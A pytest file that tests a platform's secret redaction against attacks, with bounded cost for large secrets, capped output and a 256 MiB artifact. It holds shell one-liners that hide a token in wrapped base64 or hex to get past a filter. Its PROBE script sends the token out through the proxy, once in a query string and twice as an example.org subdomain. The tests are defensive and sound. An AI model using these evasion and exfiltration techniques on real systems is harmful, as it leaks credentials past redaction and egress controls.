"""Attacks on redaction's cost and reach: what a run makes the platform do to keep its team's secrets out of what
comes back (``worker.secrets``), and which fields of a result it reaches.

Each test gives the redactor what the attack gave it — big secrets and output cut at its cap, a 256 MiB artifact,
base64 wrapped at widths no list of forms could hold, egress refusals naming a secret, a result field added later —
and asserts the secret does not come back and the cost is bounded: by counting (``Redactor.work``, a fresh
process's peak resident size), never by timing.
"""

from __future__ import annotations

import asyncio
import base64
import json
import random
import subprocess
import sys
import textwrap
import threading
import typing
from pathlib import Path

import pytest
import redis
from pydantic import BaseModel

from orchestrator.dispatch import QueueDispatcher
from orchestrator.egress import EgressStore
from orchestrator.skills import create_default_skill_repository
from tests.attacks.held import py
from tests.attacks.test_secret_attacks import (  # noqa: F401 - the secrets fixtures
    SECRET,
    _services,
    key,
    leaked,
    put_secret,
    run,
    secret_library,
    services,
    store,
)
from tests.egress_hosts import ALLOWED, allowed_server  # noqa: F401 - the allowed host's server
from tests.integration.conftest import worker_env  # noqa: F401 - the queue's worker settings
from tests.orchestrator.api_helpers import client, new_team
from tests.orchestrator.conftest import model_server  # noqa: F401 - the scripted model
from worker.jobs import core
from worker.jobs import execute as jobs
from worker.contract import RunLimits, RunRequest, RunResult
from worker.errors import SecretError
from worker.secrets import IDENTITY_FIELDS, Redactor, forms_of, redact_result
from worker.run_store import RedisRunStore, RunStatus
from worker.secrets.store import (
    MAX_TEAM_SECRET_BYTES,
    MAX_VALUE_BYTES,
    FileSecretStore,
    RedisSecretStore,
    SecretBox,
)

MiB = 1024 * 1024
TAINTED = f"before {SECRET} after"


# ---- every field ---------------------------------------------------------------------------------------------------

def _tainted(model: type[BaseModel]) -> dict[str, typing.Any]:
    """Every field of ``model`` holding the secret: text fields as ``TAINTED`` (base64 content as the secret's
    base64), models and lists of them filled the same way, at any depth. A field of a type this does not know
    fails the test: a new kind of field must be taught here (and to ``redact_result``) before it can land."""
    values: dict[str, typing.Any] = {}
    for name, field in model.model_fields.items():
        annotation = field.annotation
        origin, args = typing.get_origin(annotation), typing.get_args(annotation)
        if isinstance(annotation, type) and issubclass(annotation, BaseModel):
            values[name] = _tainted(annotation)
        elif origin is list and isinstance(args[0], type) and issubclass(args[0], BaseModel):
            values[name] = [_tainted(args[0])]
        elif origin is list and args == (str,):
            values[name] = [TAINTED]
        elif origin is dict and args == (str, str):
            values[name] = {TAINTED: TAINTED}
        elif annotation is str or (isinstance(annotation, type) and issubclass(annotation, str)):
            identity = field.default if isinstance(field.default, str) and field.default else "x"
            values[name] = identity if name in IDENTITY_FIELDS else TAINTED
        elif annotation in (int, float, bool):
            values[name] = field.get_default() if not field.is_required() else 0
        else:
            raise AssertionError(f"{model.__name__}.{name} is a {annotation}, which this test cannot fill: teach it")
    return values


def test_every_text_field_of_a_run_result_is_redacted_so_a_new_field_cannot_skip_it():
    fields = _tainted(RunResult)
    fields.update(run_id="r", workspace_id="w", runtime="local")
    binary = {**fields["output_files"][0], "name": "data.bin", "encoding": "base64",
              "content": base64.b64encode(b"\0\1" + SECRET.encode()).decode()}
    fields["output_files"].append(binary)
    result = RunResult.model_validate(fields)
    assert len(leaked(result.model_dump_json())) > 0  # the secret is in every field before
    redact_result(result, Redactor({"GH_TOKEN": SECRET}))
    dumped = result.model_dump(mode="json")
    dumped["output_files"][1]["content"] = base64.b64decode(dumped["output_files"][1]["content"]).decode("latin-1")
    assert leaked(json.dumps(dumped, ensure_ascii=False)) == []
    assert result.egress_refusals[0].destination == "before [redacted:GH_TOKEN] after"


def test_an_egress_refusal_naming_a_secret_comes_back_redacted():
    result = RunResult(run_id="r", workspace_id="w", runtime="local", exit_code=0, egress_refused=1,
                       egress_refusals=[{"destination": f"{SECRET}.example.org:443",
                                         "reason": f"{SECRET}.example.org:443 is not on the allow-list"}])
    redact_result(result, Redactor({"GH_TOKEN": SECRET}))
    assert result.egress_refusals[0].model_dump() == {
        "destination": "[redacted:GH_TOKEN].example.org:443",
        "reason": "[redacted:GH_TOKEN].example.org:443 is not on the allow-list"}


# ---- cost ----------------------------------------------------------------------------------------------------------

def _big_secrets() -> dict[str, str]:
    """As many 64 KiB values as a team may hold (random text: nothing repeats)."""
    return {f"BIG_{i}": base64.b64encode(random.Random(i).randbytes(MAX_VALUE_BYTES * 3 // 4)).decode()
            for i in range(MAX_TEAM_SECRET_BYTES // MAX_VALUE_BYTES)}


def test_output_cut_at_its_cap_with_a_teams_biggest_secrets_costs_work_linear_in_it():
    secrets = _big_secrets()
    redactor = Redactor(secrets)
    values = list(secrets.values())
    # stdout cut at its 1 MiB cap in the middle of a value, after starts of every value and of its base64
    text = "".join(value[: 1000 + i] + "\n" + base64.b64encode(value.encode()).decode()[:900] + "\n"
                   for i, value in enumerate(values))
    text += values[0][: MiB - len(text)]
    redacted = redactor.text(text, cut=True)
    assert not redacted.endswith(values[0][-100:]) and redacted.endswith("[redacted:BIG_0]")
    forms = sum(len(form) for value in values for form in forms_of(value))
    assert redactor.work <= 8 * (len(text) + forms)  # it was quadratic in a value's length: 31 s for 10 values


async def test_the_heartbeat_goes_on_while_a_run_is_redacted(redis_url, worker_env, secret_library, key,  # noqa: F811
                                                             monkeypatch):
    monkeypatch.setenv("SKILLRUN_SECRETS_KEY", key)
    jobs.get_worker_settings.cache_clear()
    RedisSecretStore(redis.Redis.from_url(redis_url), SecretBox(key)).set("team-a", "GH_TOKEN", SECRET)
    beating: list[bool] = []
    redact = core.redact_result

    def observed(result: RunResult, redactor: Redactor, limits: RunLimits) -> None:
        beating.append(any(thread.name == f"heartbeat-{result.run_id}" and thread.is_alive()
                           for thread in threading.enumerate()))
        redact(result, redactor, limits)

    monkeypatch.setattr(core, "redact_result", observed)
    ref = create_default_skill_repository(str(secret_library)).skill_ref("github")
    dispatcher = QueueDispatcher(redis_url)
    runs = RedisRunStore(redis.Redis.from_url(redis_url))
    try:
        request = RunRequest(skill=ref, command='echo "t:$GH_TOKEN"', secrets=["GH_TOKEN"])
        run_id = (await dispatcher.submit(request, owner="team-a")).id
        await asyncio.to_thread(jobs.execute_stored_run, runs, run_id, "redaction-test")
        ended = await dispatcher.get(run_id)
    finally:
        await dispatcher.close()
        await asyncio.to_thread(jobs.close_runtimes)
    assert beating == [True]
    assert ended.status == RunStatus.FINISHED and ended.result.stdout == "t:[redacted:GH_TOKEN]\n"
    assert ended.result.timings.redact_ms > 0


STREAMED = textwrap.dedent("""
    import os, resource, sys, tempfile
    from worker.artifacts import FileArtifactStore
    from worker.secrets import Redactor, redacting_sink
    folder = tempfile.mkdtemp()
    path = os.path.join(folder, "big.bin")
    secret = sys.argv[1]
    with open(path, "wb") as out:
        out.truncate(256 * 1024 * 1024)  # sparse: zeros that cost no disk
        out.seek(128 * 1024 * 1024)
        out.write(secret.encode())
    store = FileArtifactStore(os.path.join(folder, "store"), max_bytes=512 * 1024 * 1024)
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    fd = os.open(path, os.O_RDONLY)
    sink = redacting_sink(store, "w", Redactor({"GH_TOKEN": secret}))
    stored = sink("big.bin", fd, "application/octet-stream", 512 * 1024 * 1024)
    data = store.open("w", "big.bin").chunks()
    found = sum(chunk.count(b"[redacted:GH_TOKEN]") for chunk in data)
    print(stored.size, found, (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) * 1024)
""")


def test_a_256_mib_artifact_is_redacted_as_it_streams_in_bounded_memory():
    answer = subprocess.run([sys.executable, "-c", STREAMED, SECRET], capture_output=True, text=True, timeout=300,
                            cwd=Path(__file__).resolve().parents[2])
    assert answer.returncode == 0, answer.stderr
    size, found, grown = map(int, answer.stdout.split())
    assert found == 1 and size == 256 * MiB - len(SECRET) + len("[redacted:GH_TOKEN]")
    assert grown < 64 * MiB, f"redacting a 256 MiB file grew the process by {grown // MiB} MiB"  # it was 1.7 GiB


# ---- wrapped forms -------------------------------------------------------------------------------------------------

WRAPPED = [
    ("base64 -w 64 (openssl, PEM)", 'printf "%s" "$GH_TOKEN" | base64 -w 64'),
    ("a Basic header wrapped at 76", 'printf "Authorization: Basic %s\\n" "$(printf "user:%s" "$GH_TOKEN" | base64)"'
                                     ' ; printf "user:%s" "$GH_TOKEN" | base64 -w 76'),
    ("inside longer base64, at 76", 'printf "xx%s----------------------------------------------------yy" "$GH_TOKEN" '
                                    '| base64 -w 76'),
    ("inside longer base64, at 64", 'printf "x%s" "$GH_TOKEN" | base64 -w 64; printf "yz%s" "$GH_TOKEN" | base64 -w 9'),
    ("folded at 13 columns", 'printf "%s" "$GH_TOKEN" | base64 -w 0 | fold -w 13'),
    ("one character a line", 'printf "%s" "$GH_TOKEN" | base64 -w 1'),
    ("hex at 60 columns (as xxd -p)", 'printf "%s%s" "$GH_TOKEN" "$GH_TOKEN" | od -An -v -tx1 -w30 | tr -d " "'),
    ("CRLF line ends, indented as YAML", 'printf "key: |\\r\\n"; printf "%s" "$GH_TOKEN" | base64 -w 10 | '
                                         'sed "s/^/    /; s/$/\\r/"'),
]


LONG_TOKEN = "ghs_" + "Wr4pp3dT0k3nV4lu3" * 6
"""A value whose base64 takes more than one line at every width above."""


@pytest.mark.parametrize("command", [pytest.param(command, id=name) for name, command in WRAPPED])
async def test_a_secret_in_wrapped_base64_or_hex_never_comes_back(services, command):  # noqa: F811
    async with client(services, new_team(services, "team-a")) as api:
        await put_secret(api, "GH_TOKEN", LONG_TOKEN)
        answer = (await run(api, skill="github", command=command, secrets=["GH_TOKEN"])).json()
    stdout = answer["result"]["stdout"]
    unwrapped = stdout.replace("\r", "").replace("\n", "").replace(" ", "")
    assert "[redacted:GH_TOKEN]" in stdout, stdout
    assert leaked(unwrapped, LONG_TOKEN) == [] and leaked(stdout, LONG_TOKEN) == [], stdout


def test_a_team_holds_at_most_1_mib_of_secrets_and_a_refused_one_stores_nothing(tmp_path, key):  # noqa: F811
    secrets = FileSecretStore(tmp_path / "secrets", SecretBox(key))
    big = _big_secrets()
    small, smaller = (base64.b64encode(random.Random(seed).randbytes(768)).decode() for seed in (1, 2))
    for name, value in big.items():
        secrets.set("team-a", name, value)
    with pytest.raises(SecretError, match=f"hold at most {MAX_TEAM_SECRET_BYTES} together"):
        secrets.set("team-a", "ONE_MORE", small)
    secrets.set("team-a", "BIG_0", smaller)  # replacing one by a smaller value is welcome
    secrets.set("team-b", "ONE_MORE", small)  # another team is not counted
    assert sorted(info.name for info in secrets.list("team-a")) == sorted(big)
    assert secrets.reveal("team-a", ["BIG_0"]) == {"BIG_0": smaller}


# ---- egress refusals, end to end -----------------------------------------------------------------------------------

PROBE = py("""
    import os, socket
    host, port = os.environ["HTTP_PROXY"].rsplit("/", 1)[1].split(":")
    token, allowed = os.environ["GH_TOKEN"], os.environ["ALLOWED"]
    for head in (f"POST http://{allowed}/?token={token} HTTP/1.1\\r\\nHost: {allowed}\\r\\nContent-Length: 0",
                 f"CONNECT {token}.example.org:443 HTTP/1.1\\r\\nHost: {token}.example.org:443",
                 f"GET http://{token}.example.org/x HTTP/1.1\\r\\nHost: {token}.example.org"):
        with socket.create_connection((host, int(port)), timeout=20) as proxy:
            proxy.sendall(head.encode() + b"\\r\\n\\r\\n")
            print(proxy.recv(4096).split(b"\\r\\n")[0].decode())
    """)


@pytest.fixture
async def egress_services(work_root, allowed_server, store, model_server):  # noqa: F811
    library = work_root.parent / "egress-secret-library"
    folder = library / "caller"
    folder.mkdir(parents=True)
    (folder / "SKILL.md").write_text(
        "---\nname: caller\ndescription: Calls an API with a token.\nmetadata:\n  secrets: [GH_TOKEN]\n"
        f"  egress: ['{ALLOWED}:{allowed_server}', '*.example.org']\n---\nx\n")
    for path in [library, *library.rglob("*")]:
        path.chmod(0o755 if path.is_dir() else 0o644)
    built = _services(work_root, library, store, model_server.base_url)
    EgressStore(built.teams.docs).set("team-a", [f"{ALLOWED}:{allowed_server}", "*.example.org"])
    yield built, f"{ALLOWED}:{allowed_server}"
    await built.close()


@pytest.mark.root
async def test_a_secret_in_a_refused_requests_query_or_host_never_comes_back(egress_services):
    built, allowed = egress_services
    async with client(built, new_team(built, "team-a")) as api:
        await put_secret(api, "GH_TOKEN", SECRET)
        answer = (await run(api, skill="caller", command=PROBE, secrets=["GH_TOKEN"], env={"ALLOWED": allowed}))
        listed = await api.get("/v1/runs")
    result = answer.json()["result"]
    assert result["stdout"].split("\n")[:1] == ["HTTP/1.1 405 Method Not Allowed"], result
    assert result["egress_refused"] == 3
    assert [refusal["destination"] for refusal in result["egress_refusals"]] == [
        allowed, "[redacted:GH_TOKEN].example.org:443", "[redacted:GH_TOKEN].example.org:80"]
    assert leaked(answer.text) == [] and leaked(listed.text) == []


async def test_redaction_never_makes_what_comes_back_longer_than_the_run_gave_it(services):  # noqa: F811
    password = "pw8bytes"  # each becomes the 18 bytes of [redacted:DB_PASS]
    command = ('for i in $(seq 50000); do printf %s "$DB_PASS"; done | tee out/p.txt; '
               'for i in $(seq 50000); do printf %s "$DB_PASS"; done >&2')
    async with client(services, new_team(services, "team-a")) as api:
        await put_secret(api, "DB_PASS", password)
        size = 50000 * len(password)  # the run's caps: all of it is kept, then redaction would make it 2.25 times
        answer = await run(api, skill="github", command=command, secrets=["DB_PASS"], output_files=["out/p.txt"],
                           limits={"stdout_bytes": size, "stderr_bytes": size, "output_file_bytes": size})
    result = answer.json()["result"]
    for text in (result["stdout"], result["stderr"], result["output_files"][0]["content"]):
        kept = text.split("\n[skillrun: output truncated here")[0]
        assert len(kept.encode()) <= size and kept.startswith("[redacted:DB_PASS]") and password not in text
    assert result["stdout_truncated"] and result["stderr_truncated"] and result["output_files"][0]["truncated"]
